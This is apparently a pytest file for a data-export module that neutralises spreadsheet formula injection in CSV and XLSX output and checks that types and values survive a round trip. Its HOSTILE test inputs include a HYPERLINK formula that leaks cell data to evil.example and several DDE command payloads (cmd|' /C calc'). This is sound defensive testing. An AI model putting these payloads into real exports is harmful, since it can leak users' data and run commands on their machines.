"""Formula-safe CSV and XLSX: hostile text neutralised, numbers kept numbers, read back equal."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import polars as pl
import pytest
from openpyxl.utils.escape import unescape

from data_access.exports import (XLSX_MAX_ROWS, csv_bytes, neutralise, safe_frame, sheet_name,
                                 xlsx_bytes, xml_text)

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "'-5"),
    ("=", "'="),
    ("a=1", "a=1"),
    ("Project 5 - phase 2", "Project 5 - phase 2"),
    (" =1+1", " =1+1"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "expected"), HOSTILE, ids=[repr(t) for t, _ in HOSTILE])
def test_neutralise_prefixes_a_quote_to_formula_looking_text_only(text, expected):
    assert neutralise(text) == expected


def test_neutralise_keeps_none():
    assert neutralise(None) is None


def hostile_frame() -> pl.DataFrame:
    return pl.DataFrame({
        "text": [t for t, _ in HOSTILE],
        "number": list(range(-5, -5 + len(HOSTILE))),
        "money": [-1234.5, 0.0, 1e6, -0.01, *[float(i) for i in range(len(HOSTILE) - 4)]],
    })


def test_safe_frame_neutralises_text_and_leaves_numbers_alone():
    safe = safe_frame(hostile_frame())
    assert safe["text"].to_list() == [e for _, e in HOSTILE]
    assert safe.schema == hostile_frame().schema          # numbers stay numbers
    assert safe["number"][0] == -5 and safe["money"][0] == -1234.5


def test_column_names_are_neutralised_and_control_characters_dropped():
    frame = pl.DataFrame({"=cmd()": ["a\x00b"], "-x": [1], "ok": ["\x01=2"]})
    safe = safe_frame(frame)
    assert safe.columns == ["'=cmd()", "'-x", "ok"]
    assert safe.row(0) == ("ab", 1, "'=2")              # NUL dropped; then neutralised


def test_nested_columns_become_neutralised_text():
    frame = pl.DataFrame({"tags": [["=a", "b"], None], "s": [{"k": 1}, {"k": 2}]})
    safe = safe_frame(frame)
    assert safe["tags"].to_list() == ["'=a; b", None]
    assert safe["s"].to_list() == ['{"k":1}', '{"k":2}']


def test_csv_round_trip_gives_the_safe_frame_back():
    frame = hostile_frame().with_columns(
        pl.lit(dt.date(2026, 3, 4)).alias("day"), pl.lit(True).alias("flag"),
        pl.Series("accents", ["Zoë – €"] * len(HOSTILE)))
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")              # Excel reads UTF-8 with a BOM
    back = pl.read_csv(data, schema=frame.schema)
    assert back.equals(safe_frame(frame))
    assert back["number"][0] == -5                      # a real negative number: unquoted


def test_csv_writes_negative_numbers_as_numbers_and_text_minus_five_quoted():
    data = csv_bytes(pl.DataFrame({"n": [-5], "t": ["-5"]}), bom=False)
    assert data == b"n,t\n-5,'-5\n"


def _read_xlsx(data: bytes) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    return {ws.title: [tuple(unescape(v) if isinstance(v, str) else v for v in row)
                       for row in ws.iter_rows(values_only=True)] for ws in book.worksheets}


def test_xlsx_read_back_equals_the_safe_frame_with_typed_cells():
    frame = pl.DataFrame({
        "text": [t for t, _ in HOSTILE],
        "number": list(range(-5, -5 + len(HOSTILE))),
        "money": [-1234.5] * len(HOSTILE),
        "day": [dt.date(2026, 3, 4)] * len(HOSTILE),
        "flag": [True, False] * (len(HOSTILE) // 2),
        "maybe": [None, 1.5] * (len(HOSTILE) // 2),
    })
    sheets = _read_xlsx(xlsx_bytes({"hostile": frame}))
    rows = sheets["hostile"]
    assert rows[0] == tuple(frame.columns)
    safe = safe_frame(frame)
    for got, want in zip(rows[1:], safe.iter_rows(), strict=True):
        assert got[0] == want[0]
        assert got[1] == want[1] and isinstance(got[1], int)
        assert got[2] == want[2] and isinstance(got[2], float)
        assert got[3] == dt.datetime(2026, 3, 4)
        assert got[4] is want[4]
        assert got[5] == want[5]


def test_xlsx_never_stores_a_formula():
    data = xlsx_bytes({"t": pl.DataFrame({"text": ["=1+1", "+A1", "@A1"]})})
    book = openpyxl.load_workbook(io.BytesIO(data))       # formulas, not cached values
    cells = [c.value for row in book.active.iter_rows(min_row=2) for c in row]
    assert cells == ["'=1+1", "'+A1", "'@A1"]
    assert all(c.data_type == "s" for row in book.active.iter_rows(min_row=2) for c in row)


def test_xlsx_has_one_sheet_per_table_with_valid_unique_names():
    tables = {"projects": pl.DataFrame({"a": [1]}), "a/b:c*?[x]": pl.DataFrame({"a": [2]}),
              "x" * 40: pl.DataFrame({"a": [3]}), "X" * 40: pl.DataFrame({"a": [4]})}
    sheets = _read_xlsx(xlsx_bytes(tables))
    assert list(sheets) == ["projects", "a_b_c___x_", "x" * 31, "X" * 27 + " (2)"]
    assert [rows[1][0] for rows in sheets.values()] == [1, 2, 3, 4]


def test_xlsx_nan_and_infinity_are_not_numbers():
    rows = _read_xlsx(xlsx_bytes({"t": pl.DataFrame({"v": [float("nan"), float("inf"),
                                                          float("-inf"), -1.0]})}))["t"]
    assert [r[0] for r in rows[1:]] == ["#N/A", "inf", "'-inf", -1.0]


def test_xlsx_refuses_an_empty_export_and_too_many_rows(monkeypatch):
    with pytest.raises(ValueError, match="at least one table"):
        xlsx_bytes({})
    import data_access.exports as exports

    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    with pytest.raises(ValueError, match="table 'big' has 3 rows: an XLSX sheet holds at most 2"):
        xlsx_bytes({"big": pl.DataFrame({"a": [1, 2, 3]})})
    assert XLSX_MAX_ROWS == 1_048_576


def test_timezone_aware_datetimes_are_written_in_utc():
    when = dt.datetime(2026, 3, 4, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    rows = _read_xlsx(xlsx_bytes({"t": pl.DataFrame({"at": [when]})}))["t"]
    assert rows[1][0] == dt.datetime(2026, 3, 4, 8, 30)


@pytest.mark.parametrize(("name", "expected"), [("", "Sheet"), ("a'b", "a_b"), ("ok", "ok")])
def test_sheet_name(name, expected):
    assert sheet_name(name) == expected


def test_xml_text_strips_what_xml_cannot_hold_and_keeps_the_rest():
    assert xml_text("a\x00b\x0bc\td\ne\rf\ufffeé😀") == "abc\td\ne\rfé😀"
